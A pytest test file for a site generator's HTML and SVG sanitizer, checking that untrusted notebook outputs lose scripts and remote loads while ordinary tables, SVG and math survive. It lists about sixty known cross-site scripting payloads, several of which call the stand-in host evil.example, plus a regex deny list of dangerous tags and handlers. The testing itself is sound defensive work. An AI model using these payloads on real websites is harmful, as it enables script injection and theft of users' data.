"""What an output that is not trusted may hold: known attacks, and what must come through."""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import TYPE_CHECKING
from xml.etree import ElementTree

import pytest

from sitegen.content.executed import DisplayOutput, StreamOutput
from sitegen.frozen import FrozenDict, freeze
from sitegen.rendering.cells.sanitize import sanitized, sanitized_svg
from sitegen.rendering.values import Page

if TYPE_CHECKING:
    from playwright.sync_api import Browser

ATTACKS = (
    "<script>hit()</script>",
    "<SCRIPT/x>hit()</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=hit()>",
    "<img src=x onerror='hit()' alt=a>",
    "<img/src/onerror=hit()>",
    '<img src="javascript:hit()">',
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    '<svg><a xlink:href="javascript:hit()"><text y="20">x</text></a></svg>',
    '<svg><animate xlink:href="#x" attributeName="href" values="javascript:hit()"/><a id="x"><text>x</text></a></svg>',
    "<svg><set attributeName=onmouseover to=hit()></svg>",
    "<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>hit()</script></svg>#x"/></svg>',
    '<svg><use href="https://evil.example/a.svg#x"/></svg>',
    '<svg><image href="https://evil.example/a.svg"/></svg>',
    "<svg><style><img src=x onerror=hit()></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hit()&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>hit()</script></annotation-xml></math>",
    '<math href="javascript:hit()"><mi>x</mi></math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'></noscript>",
    "<template><script>hit()</script></template>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<object data='data:text/html,<script>hit()</script>'></object>",
    "<embed src='javascript:hit()'>",
    "<a href='javascript:hit()'>x</a>",
    "<a href=' jav\tascript:hit()'>x</a>",
    "<a href='&#106;avascript:hit()'>x</a>",
    "<a href='data:text/html,<script>hit()</script>'>x</a>",
    "<a href='vbscript:hit()'>x</a>",
    "<form action='javascript:hit()'><input type=submit></form>",
    "<button formaction='javascript:hit()'>x</button>",
    "<input autofocus onfocus=hit()>",
    "<details open ontoggle=hit()><summary>x</summary></details>",
    "<video src=x onerror=hit()></video>",
    "<audio><source onerror=hit() src=x></audio>",
    "<body onload=hit()>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=\"background-color: url('https://evil.example/x.png')\">x</p>",
    '<p style="background: url(https://evil.example/x.png)">x</p>',
    '<p style="width: expression(hit())">x</p>',
    '<svg><rect fill="url(https://evil.example/x.svg#a)" width="9" height="9"/></svg>',
    '<svg><rect style="clip-path: url(https://evil.example/x.svg#a)" width="9" height="9"/></svg>',
    '<svg><rect style="clip-path: u\\72l(https://evil.example/x.svg#a)" width="9" height="9"/></svg>',
    "<table background='https://evil.example/x.png'><tr><td>x</td></tr></table>",
    "<img srcset='https://evil.example/x.png 1x' src=''>",
    "<!--><img src=x onerror=hit()>-->",
    "<div><!-- --!><script>hit()</script> --></div>",
    "<x-y><slot onslotchange=hit()></slot></x-y>",
    "<marquee onstart=hit()>x</marquee>",
    "<xmp><p title='</xmp><img src=x onerror=hit()>'>",
    "<title><img title='</title><img src=x onerror=hit()>'>",
    "<svg><title><img src=x onerror=hit()></title></svg>",
    "<svg><desc><script>hit()</script></desc></svg>",
)
"""Forms of cross-site scripting as OWASP's list and the history of sanitisers know them; `evil.example` must not be asked."""

FORBIDDEN = re.compile(
    r"""<(?:script|iframe|object|embed|style|form|button|base|link|meta|template|animate|set|foreignobject|noscript)\b
    |<[^>]*\s(?:on\w+|srcdoc|srcset|formaction|background)\s*=|javascript:|vbscript:|data:text|<[^>]*evil\.example""",
    re.IGNORECASE | re.VERBOSE,
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_loads_comes_through(attack: str) -> None:
    """No element, handler or address of the list is in what is left; cleaning it again changes nothing."""
    clean = sanitized(attack)

    # quoted text in an attribute is text
    tags = re.sub(r'\s(?:title|alt)="[^"]*"', "", clean)
    assert FORBIDDEN.search(tags) is None, clean
    assert sanitized(clean) == clean


@pytest.mark.browser
def test_no_attack_succeeds_in_a_browser(chromium: Browser) -> None:
    """All attacks on one page, each clicked: nothing runs, and nothing is asked of another host."""
    asked: list[str] = []
    hits: list[str] = []
    page = chromium.new_page()
    page.on("request", lambda request: asked.append(request.url))
    page.expose_function("hit", lambda: hits.append("hit"))
    body = "<!doctype html><title>t</title>" + "".join(
        f"<section>{sanitized(attack)}</section>" for attack in ATTACKS
    )

    page.route("https://site.example/**", lambda route: route.fulfill(body=body, content_type="text/html"))
    page.goto("https://site.example/")
    page.evaluate(
        "for (const link of document.querySelectorAll('a')) { link.target = '_self'; link.click?.() }"
    )
    page.evaluate("for (const d of document.querySelectorAll('details')) d.open = true")
    page.wait_for_load_state("load")

    assert hits == []
    assert {url.split("/")[2] for url in asked if not url.startswith("data:")} == {"site.example"}
    page.close()


@pytest.mark.parametrize(
    "html",
    [
        '<table class="dataframe"><thead><tr><th colspan="2">a</th></tr></thead></table>',
        '<td class="data row0 col0" style="color:red;background-color:#fff;width:10em">1</td>',
        '<p>a <em>b</em> <a href="https://example.org/x?a=1">c</a> <a href="../b/">d</a></p>',
        '<img src="data:image/png;base64,AAAA" alt="a">',
        '<svg viewBox="0 0 1 1" xmlns="http://www.w3.org/2000/svg"><path d="M0 0" stroke-width="2"></path></svg>',
        "<math><mfrac><mi>a</mi><mn>2</mn></mfrac></math>",
        '<details open=""><summary>s</summary>t</details>',
        '<div class="highlight"><pre><code class="language-python"><span class="k">if</span></code></pre></div>',
        "<p>a\N{NO-BREAK SPACE}b</p>",
    ],
)
def test_what_a_library_writes_stays(html: str) -> None:
    """Tables with classes and styles, links, pictures, SVG, equations and code come through as they are."""
    whole = f"<table><tbody><tr>{html}</tr></tbody></table>" if html.startswith("<td") else html

    assert sanitized(whole) == whole


def test_an_output_stays_in_its_box() -> None:
    """It cannot cover the page, nor wear the classes that say where numbers come from."""
    clean = sanitized(
        '<div class="metric provenance-panel dataframe plot" style="position: fixed; inset: 0; z-index: 9; margin: -9em; '
        'color: red">x</div>'
    )

    assert clean == '<div class="dataframe" style="color:red">x</div>'


def test_ids_do_not_meet_the_pages() -> None:
    """An id gets a prefix, with all that refers to it; a link to a place of the page keeps its target."""
    clean = sanitized(
        '<svg><clipPath id="c"></clipPath><path clip-path="url(#c)"></path><use href="#c"></use></svg>'
        '<a href="#c">c</a><a href="#results">r</a><b id="copy-button">x</b><h2 id="mine">h</h2>',
        own_ids=frozenset({"mine"}),
    )

    assert clean == (
        '<svg><clipPath id="output-c"></clipPath><path clip-path="url(#output-c)"></path><use href="#output-c"></use></svg>'
        '<a href="#output-c">c</a><a href="#results">r</a><b id="output-copy-button">x</b><h2 id="mine">h</h2>'
    )


MATPLOTLIB = """<?xml version="1.0" encoding="utf-8" standalone="no"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns:xlink="http://www.w3.org/1999/xlink" width="72pt" height="72pt" viewBox="0 0 72 72" xmlns="http://www.w3.org/2000/svg" version="1.1">
 <metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata>
 <defs><style type="text/css">*{stroke-linejoin: round; stroke-linecap: butt}</style></defs>
 <g id="figure_1"><defs><path id="m1" d="M 0 0 L 0 3" style="stroke: #000000; stroke-width: 0.8"/></defs>
 <use xlink:href="#m1" x="1" y="2"/><script>hit()</script><text onclick="hit()">a&#160;b</text></g>
</svg>
"""


def test_a_drawing_stays_a_drawing() -> None:
    """Matplotlib's SVG is well-formed XML afterwards, with its styles and uses, without a script."""
    clean = sanitized_svg(MATPLOTLIB)

    assert clean is not None
    root = ElementTree.fromstring(clean)
    assert root.attrib["viewBox"] == "0 0 72 72"
    assert root.attrib["style"] == "stroke-linejoin:round;stroke-linecap:butt"
    use = root.find(".//{http://www.w3.org/2000/svg}use")
    assert use is not None
    assert use.attrib["{http://www.w3.org/1999/xlink}href"] == "#output-m1"
    assert 'style="stroke:#000000;stroke-width:0.8"' in clean
    assert not re.search("script|onclick|hit", clean)


def test_what_is_no_drawing_is_dropped() -> None:
    """Text that only calls itself SVG gives no file."""
    assert sanitized_svg("<html><script>hit()</script></html>") is None


def test_all_forms_of_an_untrusted_output_are_clean(compose_cell: Callable[..., Page]) -> None:
    """HTML, Markdown, LaTeX, SVG and printed Markdown pass through the same list; data for scripts is not drawn."""
    bad = "<img src=x onerror=hit()><script>hit()</script>"
    outputs = [
        DisplayOutput(data=FrozenDict({"text/html": bad})),
        DisplayOutput(data=FrozenDict({"text/markdown": f"hi {bad}\n\n$x^2$"})),
        DisplayOutput(data=FrozenDict({"text/latex": f"$x$ {bad}"})),
        DisplayOutput(
            data=FrozenDict(
                {
                    "image/svg+xml": '<svg onload="hit()" viewBox="0 0 1 1"><script>hit()</script><path d="M0 0"/></svg>'
                }
            )
        ),
        DisplayOutput(data=freeze({"application/vnd.vegalite.v6+json": {"title": "T<b>"}, "text/html": bad})),
        DisplayOutput(
            data=freeze(
                {
                    "application/vnd.plotly.v1+json": {"layout": {"title": {"text": "<img onerror=hit()>P"}}},
                    "application/vnd.sitegen.plotly-script": "hit()",
                }
            )
        ),
        DisplayOutput(data=freeze({"application/vnd.jupyter.widget-view+json": {"model_id": "m"}})),
        DisplayOutput(data=FrozenDict({"application/javascript": "hit()", "text/plain": "js"})),
        StreamOutput(name="stdout", text=f"## Head\n\n{bad}\n"),
    ]

    page = compose_cell(*outputs, source="pass", output="asis", trust=False)

    assert "hit()" not in page.content.replace("&lt;", "")
    assert "<script" not in page.content
    assert page.shared == {}
    assert page.content.count("is not drawn: the outputs of this page are not trusted") == 3
    assert "<math" in page.content
    assert '<h2 id="head">' in page.content
    assert [name.suffix for name in page.files] == [".svg"]
    assert b"hit" not in next(iter(page.files.values()))


def test_equal_outputs_have_equal_bytes() -> None:
    """The attributes that we set ourselves stand in one order: a build is reproducible byte for byte."""
    found = {
        sanitized(f"<p>{number}</p><input checked type=radio>").partition("</p>")[2] for number in range(40)
    }
    assert found == {'<input checked="" type="checkbox" disabled="">'}
